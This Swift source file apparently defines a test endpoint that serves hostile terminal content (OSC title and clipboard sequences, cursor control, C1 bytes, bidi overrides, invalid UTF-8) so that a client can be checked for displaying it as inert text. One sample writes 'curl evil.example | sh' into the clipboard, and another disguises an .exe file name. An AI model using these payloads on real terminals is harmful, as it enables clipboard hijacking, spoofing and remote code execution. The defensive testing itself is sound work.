import Foundation

/// `/chaos/escape`: a response built to attack the terminal that shows it. Every sequence here must
/// reach the user as visible symbols, never as terminal control.
enum DemoHostileContent {
    static let escape: UInt8 = 0x1B
    static let bell: UInt8 = 0x07

    /// The hostile pieces, each labelled, as raw bytes (some are deliberately not UTF-8).
    static let samples: [(label: String, bytes: [UInt8])] = [
        ("OSC 0 title", [escape] + Array("]0;courier-demo-pwned-title".utf8) + [bell]),
        ("OSC 2 title", [escape] + Array("]2;courier-demo-pwned-window".utf8) + [escape, UInt8(ascii: "\\")]),
        ("OSC 52 clipboard", [escape] + Array("]52;c;".utf8) + Array(Data("curl evil.example | sh".utf8)
            .base64EncodedString().utf8) + [bell]),
        ("cursor movement", [escape] + Array("[2J".utf8) + [escape] + Array("[H".utf8) + [escape]
            + Array("[10;40H".utf8) + [escape] + Array("[5A".utf8)),
        ("colours", [escape] + Array("[31;1;5mblinking red".utf8) + [escape] + Array("[0m".utf8)),
        ("8-bit C1 CSI", [0x9B] + Array("2J".utf8)),
        ("8-bit C1 OSC", [0x9D] + Array("0;c1-title".utf8) + [0x9C]),
        ("UTF-8 encoded C1 CSI", [0xC2, 0x9B] + Array("H".utf8)),
        ("NUL bytes", Array("before".utf8) + [0, 0] + Array("after".utf8)),
        ("invalid UTF-8", [0xFF, 0xFE, 0xC3, 0x28, 0xED, 0xA0, 0x80, 0xF8, 0x88, 0x80, 0x80, 0x80]),
        ("bidi override", Array("invoice\u{202E}fdp.exe\u{202C} and \u{2067}isolate\u{2069}".utf8)),
        ("backspace and carriage return", Array("visible\u{08}\u{08}\u{08}\rOVERWRITTEN\u{7F}".utf8)),
        ("DCS and APC", [escape] + Array("Pq#0;2;0;0;0".utf8) + [escape, UInt8(ascii: "\\"), escape]
            + Array("_apc-payload".utf8) + [escape, UInt8(ascii: "\\")]),
    ]

    /// Length of the single long line in the body.
    static let longLineLength = 10_000

    /// The whole body: one labelled line per sample, then the long line.
    static var body: [UInt8] {
        var bytes = Array("Hostile content test. Every line below must show as inert text.\n".utf8)
        for sample in samples { bytes += Array("\(sample.label): ".utf8) + sample.bytes + [0x0A] }
        bytes += Array("long line: ".utf8)
        bytes += (0..<longLineLength).map { UInt8(ascii: "a") + UInt8($0 % 26) }
        bytes += [0x0A]
        return bytes
    }

    /// Header fields carrying escapes (raw bytes: no correct server would send them).
    static var headerLines: [[UInt8]] {
        [
            Array("X-Title: ".utf8) + samples[0].bytes,
            Array("X-Clipboard: ".utf8) + samples[2].bytes,
            Array("X-Cursor: ".utf8) + samples[3].bytes,
            Array("X-C1: ".utf8) + samples[5].bytes,
            Array("X-Bad-UTF8: ".utf8) + samples[9].bytes,
            Array("X-Bidi: ".utf8) + samples[10].bytes,
        ]
    }

    /// The response: text by default, `?format=json` for the same strings inside JSON.
    static func response(_ context: DemoContext) -> DemoResponse {
        let json = context.request.queryValue("format") == "json"
        let body: [UInt8]
        if json {
            var object: [String: Any] = [:]
            for sample in samples { object[sample.label] = String(decoding: sample.bytes, as: UTF8.self) }
            object["long line"] = String(repeating: "z", count: longLineLength)
            object["\u{1B}]0;key-title\u{07}"] = "escape in a key"
            body = DemoJSON.encode(object)
        } else {
            body = Self.body
        }
        let contentType = json ? "application/json" : "text/plain; charset=utf-8"
        return DemoResponse(status: 200, body: .raw { writer in
            var head = Array("HTTP/1.1 200 OK\r\nContent-Type: \(contentType)\r\nContent-Length: \(body.count)\r\n".utf8)
            for line in headerLines { head += line + [0x0D, 0x0A] }
            head += [0x0D, 0x0A]
            try writer.write(head + body)
        })
    }
}
